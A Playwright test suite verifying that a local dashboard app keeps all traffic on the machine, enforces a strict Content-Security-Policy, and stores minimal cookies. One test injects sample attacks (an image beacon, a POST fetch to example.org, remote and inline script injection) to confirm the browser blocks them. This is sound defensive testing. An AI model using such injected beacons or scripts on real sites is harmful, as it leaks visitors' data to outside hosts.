"""Nothing leaves the machine, and the browser is told to see to it."""

from urllib.parse import unquote

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import NewReader
from tests.browser.reader import Reader
from tests.browser.server import Server

pytestmark = [pytest.mark.browser, pytest.mark.timeout(60)]

SCRIPT = "document.head.appendChild(document.createElement('script'))"
PERIOD = "/production?since=2025-11-01&until=2026-10-31"


def test_a_whole_visit_stays_on_this_machine(simulated: Server, visit: NewReader) -> None:
    """Requests, console and answers are watched in every test; here everything there is gets opened."""
    reader = visit(simulated)
    sockets: list[str] = []
    reader.page.on("websocket", lambda socket: sockets.append(socket.url))
    reader.open("/")
    summaries = reader.page.locator("details.menu > summary")
    for place in range(summaries.count()):
        summaries.nth(place).click()
    reader.page.keyboard.press("Escape")
    for view in ("by-month", "recommendations", "by-agency", "quality", "by-type", "backlog"):
        for action in ("table", "define"):
            reader.card_action(view, action)
            reader.page.keyboard.press("Escape")
    reader.page.locator('[data-action="theme"]').click()
    reader.pick("by-type", reader.values("by-type")[0])
    reader.mark("by-month", "2026-05").hover()
    assert reader.requests
    assert {request.split("/")[2] for request in reader.requests if request.startswith("http")} == {
        f"127.0.0.1:{simulated.port}"
    }
    assert sockets == []


def test_the_policy_allows_our_own_files_alone(simulated: Server, visit: NewReader) -> None:
    reader = visit(simulated)
    answer = reader.page.goto(simulated.address + PERIOD)
    assert answer
    policy = dict(part.split(" ", 1) for part in answer.headers["content-security-policy"].split("; "))
    assert policy["default-src"] == "'none'"
    assert policy["connect-src"] == policy["font-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'"
    scripts = policy["script-src"].split()
    assert scripts[0] == "'self'"
    assert all(source.startswith("'sha256-") for source in scripts[1:])
    assert answer.headers["referrer-policy"] in ("same-origin", "no-referrer")
    assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.append(Object.assign(new Image(), { src: 'https://example.org/pixel.png' }))",
        "fetch('https://example.org/collect', { method: 'POST', body: 'x' }).catch(() => 0)",
        f"{SCRIPT}.src = 'https://example.org/a.js'",
        f"{SCRIPT}.append('window.ran = 1')",
        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
    ],
    ids=["image", "fetch", "script", "inline script", "handler"],
)
def test_the_browser_refuses_what_the_policy_forbids(reader: Reader, attempt: str) -> None:
    """And a test that did it by accident would fail: the refusal is a console error."""
    assert reader.troubles == []
    reader.page.evaluate(f"() => {{ {attempt} }}")
    reader.page.wait_for_timeout(300)
    assert any("Content Security Policy" in trouble for trouble in reader.troubles), reader.troubles
    assert reader.page.evaluate("window.ran") is None
    reader.expects("Content Security Policy", "leaves the machine: https://example.org", "Failed to fetch")


def test_nothing_of_the_reader_is_kept_but_where_they_were_theme_and_language(
    simulated: Server, visit: NewReader
) -> None:
    reader = visit(simulated)
    reader.open(PERIOD)
    reader.pick("by-type", reader.values("by-type")[0])
    (last,) = reader.context.cookies()
    here = reader.page.url.removeprefix(reader.address)
    assert (last["name"], unquote(last["value"])) == ("vigie_last", here)
    kept_by_scripts = reader.page.evaluate("[Object.keys(localStorage), Object.keys(sessionStorage)]")
    assert kept_by_scripts == [
        [],
        ["vigie-network"],
    ]  # the agencies picked, for the way back, in this tab alone
    reader.page.locator('[data-action="theme"]').click()
    reader.page.locator('[data-action="language"]').click()
    reader.page.locator('html[lang="en"]').wait_for(state="attached")
    expect(reader.page.locator("h1")).to_be_visible()
    kept = {cookie["name"]: cookie["value"] for cookie in reader.context.cookies()}
    assert kept.keys() == {"vigie_last", "vigie_language"}
    assert kept["vigie_language"] == "en"
    assert reader.page.evaluate("Object.keys(localStorage)") == ["vigie-theme"]
